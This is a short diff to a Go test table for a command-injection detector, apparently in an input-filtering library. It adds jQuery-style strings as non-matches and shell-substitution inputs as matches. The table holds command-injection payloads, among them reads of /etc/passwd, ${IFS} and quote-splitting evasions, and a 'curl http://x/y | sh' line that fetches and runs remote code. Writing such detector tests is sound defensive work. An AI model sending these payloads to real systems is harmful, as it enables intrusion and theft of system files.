@@ -42,6 +42,8 @@ var detectTables = map[string]struct {
 		{"firstname.dockery@host.tld", false}, {"/test.environment", false}, {`C:\Users\Public`, false},
 	}},
 	"cmdi": {func(s string) bool { return detectCmdi(s, true) }, []detectCase{
+		{"$(document).ready(function(){ $('#menu').toggle(); });", false}, {"$(this).hide()", false},
+		{"$(id)", true}, {"x$(whoami)", true}, {"$(document)$(id)", true}, {"| net user", true},
 		{"; cat /etc/passwd", true}, {"| whoami", true}, {"$(id)", true}, {"`id`", true}, {";${IFS}cat${IFS}/etc/passwd", true},
 		{"; w'h'o'am'i", true}, {"127.0.0.1 && curl http://x/y | sh", true}, {"\nid\n", true}, {"/etc/pas[s]wd", true},
 		{"cats; dogs; birds", false}, {"Tom & Jerry", false}, {"AT&T", false}, {"Time | Date | Place", false},
